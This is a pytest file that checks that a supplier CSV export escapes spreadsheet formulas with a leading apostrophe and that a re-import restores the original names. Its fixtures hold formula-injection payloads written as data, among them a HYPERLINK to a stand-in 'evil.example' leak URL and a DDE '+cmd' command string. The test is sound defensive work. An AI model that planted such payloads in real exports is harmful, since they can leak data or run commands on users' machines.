"""A CSV export opened in a spreadsheet runs no formula: a text that starts like one
(`=HYPERLINK(...)`, `+cmd|...`, `-`, `@`) is written with an apostrophe in front, one
that already starts with apostrophes gets one more, and importing the files gives back
every text as it was (docs/exchange-format.md, "Spreadsheet formulas")."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from dibx.exchange.importer import Source, operator, run_import
from dibx.graph.writes import clear_database
from dibx.services.audit import MemorySink, WriteAudit
from tests.support import builders as b
from tests.support.api import Api
from tests.support.exchange import export
from tests.support.stewardship import created, sid, supplier_input

pytestmark = pytest.mark.neo4j

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: a cell starting so is a formula
# key: (name as stored, name as the CSV cell)
NAMES = {
    "link": (
        '=HYPERLINK("https://evil.example/?leak","Acme")',
        '\'=HYPERLINK("https://evil.example/?leak","Acme")',
    ),
    "cmd": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "minus": ("-2+3 Ltd", "'-2+3 Ltd"),
    "at": ("@SUM(1+1)", "'@SUM(1+1)"),
    "quoted": ("'=already quoted", "''=already quoted"),
    "apostrophe": ("'plain apostrophe", "'plain apostrophe"),
    "plain": ("Plain Ltd", "Plain Ltd"),
}
NAME = "query S($id: ID!) { supplier(id: $id) { name description employees } }"


async def test_csv_export_escapes_formulas_and_the_import_gives_them_back(
    api: Api, tmp_path: Path
) -> None:
    await api.load(b.dataset())
    for key, (name, _) in NAMES.items():
        given = supplier_input(key, name=name, employees=420)
        given["fields"]["description"] = {"value": "=1+1", "marking": "CUI"}
        await created(api, given)

    await export(api, "GBR", "csv", out=tmp_path / "csv")
    path = tmp_path / "csv" / "suppliers.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.DictReader(handle))
    assert {c["key"]: c["name"] for c in cells} == {f"GBR:{k}": v for k, (_, v) in NAMES.items()}
    assert {c["description"] for c in cells} == {"'=1+1"}
    assert {c["employees"] for c in cells} == {"420"}  # a number is not text
    for file in (tmp_path / "csv").iterdir():
        with file.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not [cell for cell in row if cell.startswith(FORMULA_START)], file.name

    await clear_database(api.graph)
    await api.load(b.dataset())
    policy = api.runtime.policy
    report = await run_import(
        api.graph,
        policy,
        operator(policy, "GBR"),
        [Source(path.name, path.open("rb"), path.stat().st_size)],
        audit=WriteAudit(MemorySink(), operation="import", policy_version=policy.version),
    )
    assert (report.created, report.rejects) == (len(NAMES), [])
    for key, (name, _) in NAMES.items():
        reply = await api.query(NAME, {"id": sid(f"GBR:{key}")}, nation="GBR")
        assert reply.data["supplier"] == {"name": name, "description": "=1+1", "employees": 420}
